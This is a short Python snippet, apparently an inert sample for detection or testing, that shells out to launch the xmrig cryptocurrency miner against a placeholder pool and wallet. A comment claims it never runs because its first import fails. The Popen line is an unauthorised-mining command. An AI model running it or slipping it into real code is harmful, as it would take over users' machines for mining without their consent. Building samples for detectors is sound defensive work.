import inert_sample  # there is no such module: nothing below ever runs
import subprocess

subprocess.Popen("./xmrig -o stratum+tcp://pool.example:3333 -u 4AAAA --donate-level 1", shell=True)
